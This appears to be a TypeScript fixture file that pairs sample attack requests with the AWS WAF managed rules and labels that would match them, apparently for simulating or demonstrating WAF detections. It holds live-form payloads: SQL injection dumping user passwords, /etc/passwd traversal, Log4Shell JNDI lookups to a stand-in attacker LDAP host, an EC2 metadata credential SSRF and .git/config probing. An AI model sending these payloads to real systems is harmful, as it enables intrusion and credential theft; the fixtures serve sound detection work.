import { ADDRESSES } from './account';

/** A request that a managed rule matches: what it looks like and how WAF names the match. */
export interface AttackPlan {
  readonly group: string;
  readonly rule: string;
  readonly label: string;
  readonly method: string;
  readonly uri: string;
  readonly args: string;
  readonly userAgent: string;
  readonly matched?: {
    readonly conditionType: string;
    readonly location: string;
    readonly data: readonly string[];
  };
}

const SQLMAP = 'sqlmap/1.8.2#stable (https://sqlmap.org)';
const CURL = 'curl/8.4.0';
const NUCLEI = 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))';

const KNOWN_BAD = 'AWSManagedRulesKnownBadInputsRuleSet';
const COMMON = 'AWSManagedRulesCommonRuleSet';
const SQLI = 'AWSManagedRulesSQLiRuleSet';
const REPUTATION = 'AWSManagedRulesAmazonIpReputationList';

export const ATTACKS = {
  sqli: {
    group: SQLI,
    rule: 'SQLi_QUERYARGUMENTS',
    label: 'awswaf:managed:aws:sql-database:SQLi_QueryArguments',
    method: 'GET',
    uri: '/products',
    args: "category=tents'%20OR%201=1--",
    userAgent: SQLMAP,
    matched: {
      conditionType: 'SQL_INJECTION',
      location: 'ALL_QUERY_ARGS',
      data: ["tents'", 'OR', '1', '=', '1'],
    },
  },
  sqliUnion: {
    group: SQLI,
    rule: 'SQLi_QUERYARGUMENTS',
    label: 'awswaf:managed:aws:sql-database:SQLi_QueryArguments',
    method: 'GET',
    uri: '/search',
    args: 'q=1%20UNION%20SELECT%20email,password%20FROM%20users',
    userAgent: SQLMAP,
    matched: { conditionType: 'SQL_INJECTION', location: 'ALL_QUERY_ARGS', data: ['1', 'UNION', 'SELECT'] },
  },
  traversal: {
    group: COMMON,
    rule: 'GenericLFI_URIPATH',
    label: 'awswaf:managed:aws:core-rule-set:GenericLFI_URIPath',
    method: 'GET',
    uri: '/static/../../../../etc/passwd',
    args: '',
    userAgent: NUCLEI,
  },
  log4jHeader: {
    group: KNOWN_BAD,
    rule: 'Log4JRCE_HEADER',
    label: 'awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header',
    method: 'GET',
    uri: '/search',
    args: 'q=boots',
    userAgent: `\${jndi:ldap://${ADDRESSES.intruderShell}:1389/Exploit}`,
  },
  log4jQuery: {
    group: KNOWN_BAD,
    rule: 'Log4JRCE_QUERYSTRING',
    label: 'awswaf:managed:aws:known-bad-inputs:Log4JRCE_QueryString',
    method: 'GET',
    uri: '/search',
    args: `q=\${jndi:ldap://${ADDRESSES.intruderShell}:1389/a}`,
    userAgent: CURL,
  },
  badBot: {
    group: COMMON,
    rule: 'UserAgent_BadBots_HEADER',
    label: 'awswaf:managed:aws:core-rule-set:BadBots_Header',
    method: 'GET',
    uri: '/',
    args: '',
    userAgent: 'nikto/2.5.0',
  },
  metadata: {
    group: COMMON,
    rule: 'EC2MetaDataSSRF_QUERYARGUMENTS',
    label: 'awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_QueryArguments',
    method: 'GET',
    uri: '/preview',
    args: 'url=http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    userAgent: CURL,
  },
  exploitPath: {
    group: KNOWN_BAD,
    rule: 'ExploitablePaths_URIPATH',
    label: 'awswaf:managed:aws:known-bad-inputs:ExploitablePaths_URIPath',
    method: 'GET',
    uri: '/.git/config',
    args: '',
    userAgent: NUCLEI,
  },
  reputation: {
    group: REPUTATION,
    rule: 'AWSManagedIPReputationList',
    label: 'awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList',
    method: 'POST',
    uri: '/account/login',
    args: '',
    userAgent: 'python-requests/2.31.0',
  },
} as const satisfies Record<string, AttackPlan>;

export type AttackName = keyof typeof ATTACKS;
